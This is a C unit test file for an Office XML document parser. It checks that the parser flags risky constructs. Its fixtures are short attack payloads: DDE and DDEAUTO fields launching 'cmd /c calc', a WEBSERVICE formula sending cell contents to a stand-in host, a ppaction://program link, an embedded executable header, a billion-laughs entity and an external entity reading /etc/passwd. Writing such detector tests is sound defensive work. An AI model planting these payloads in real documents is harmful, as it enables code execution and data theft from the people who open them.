#include "document/officexml.h"

#include "base/exact.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

#define HEAD "<?xml version=\"1.0\"?>"

static bool has(const struct officexml *x, enum officexml_kind kind, str value)
{
	for (size_t i = 0; i < x->items.n; i++) {
		if (x->items.v[i].kind == kind && str_eq(x->items.v[i].value, value))
			return true;
	}
	return false;
}

static void what_parts_refer_to_is_seen_under_any_prefix(void **state)
{
	static const struct {
		str in;
		enum officexml_kind kind;
		str value;
	} cases[] = {
		{ STR("<Relationship Type=\"a/b/attachedTemplate\" Target=\"http://x/\" "
		      "TargetMode=\"External\"/>"),
		  OFFICEXML_RELATION, STR("http://x/") },
		{ STR("<w:p xmlns:w=\"w\"><w:fldChar/><w:instrText>DD</w:instrText><w:instrText>"
		      "EAU</w:instrText><w:instrText>TO cmd</w:instrText><w:fldChar/></w:p>"),
		  OFFICEXML_FIELD, STR("DDEAUTO cmd") },
		{ STR("<z:p xmlns:z=\"w\"><z:fldSimple z:instr=\"DDE a b\"/></z:p>"),
		  OFFICEXML_FIELD, STR("DDE a b") },
		{ STR("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>"), OFFICEXML_DDE,
		  STR("cmd|/c calc") },
		{ STR("<o:s xmlns:o=\"o\" o:dde-application=\"soffice\" o:dde-topic=\"t\"/>"),
		  OFFICEXML_DDE, STR("soffice|t") },
		{ STR("<c><f>_xlfn.WEBSERVICE(\"http://e.example/\"&amp;A1)</f></c>"),
		  OFFICEXML_WEB, STR("_xlfn.WEBSERVICE(\"http://e.example/\"&A1)") },
		{ STR("<definedName name=\"a\">WEBSERVICE(A1)</definedName>"), OFFICEXML_WEB,
		  STR("WEBSERVICE(A1)") },
		{ STR("<c t:formula=\"of:=WEBSERVICE([.A1])\" xmlns:t=\"t\"/>"), OFFICEXML_WEB,
		  STR("of:=WEBSERVICE([.A1])") },
		{ STR("<Cell ss:Formula=\"=cmd|'/c calc'!A1\" xmlns:ss=\"s\"/>"), OFFICEXML_DDE,
		  STR("=cmd|'/c calc'!A1") },
		{ STR("<a:hlinkMouseOver xmlns:a=\"a\" action=\"ppaction://program\"/>"),
		  OFFICEXML_ACTION, STR("ppaction://program") },
		{ STR("<p:binaryData xmlns:p=\"p\">TVqQ\nAA==</p:binaryData>"), OFFICEXML_FILE,
		  STR("MZ\x90\0") },
		{ STR("<ocx classid=\"{0}\"/>"), OFFICEXML_OBJECT, STR("{0}") },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
		cleanup(exact_freep) str in = exact_copy(cases[i].in);
		struct officexml x;

		officexml_read(a, in, &x);
		if (!has(&x, cases[i].kind, cases[i].value))
			print_error("case %zu\n", i);
		assert_true(has(&x, cases[i].kind, cases[i].value));
		assert_false(x.broken);
	}
}

static void words_cut_into_runs_are_joined_and_code_is_no_text(void **state)
{
	cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
	struct officexml x;

	(void)state;
	officexml_read(a, STR(HEAD "<d><p><r>hel</r><r>lo</r></p><module>Sub A</module></d>"), &x);
	assert_true(str_eq(x.text, STR("hello\n")));
	assert_true(str_eq(x.code, STR("Sub A")));
	officexml_read(a, STR("<xm:macrosheet xmlns:xm=\"m\"><f>EXEC(1)</f></xm:macrosheet>"), &x);
	assert_true(x.macro_sheet);
	assert_true(str_eq(x.formulas, STR("EXEC(1)\n")));
}

static void entities_end_the_reading_at_once(void **state)
{
	cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
	struct officexml x;

	(void)state;
	officexml_read(a,
		       STR(HEAD "<!DOCTYPE a [<!ENTITY b \"bbbb\"><!ENTITY c \"&b;&b;\">]>"
				"<a>&c;</a>"),
		       &x);
	assert_true(x.entity);
	assert_int_equal(x.text.n, 0);
	officexml_read(a, STR("<!DOCTYPE a [<!ENTITY % b SYSTEM \"file:///etc/passwd\">]><a/>"),
		       &x);
	assert_true(x.entity);
}

static void damage_is_said_and_what_came_before_is_kept(void **state)
{
	cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
	struct officexml x;

	(void)state;
	officexml_read(a, STR("<a><fldSimple instr=\"DDE\"/></b>"), &x);
	assert_true(x.broken);
	assert_true(has(&x, OFFICEXML_FIELD, STR("DDE")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_parts_refer_to_is_seen_under_any_prefix),
		cmocka_unit_test(words_cut_into_runs_are_joined_and_code_is_no_text),
		cmocka_unit_test(entities_end_the_reading_at_once),
		cmocka_unit_test(damage_is_said_and_what_came_before_is_kept),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
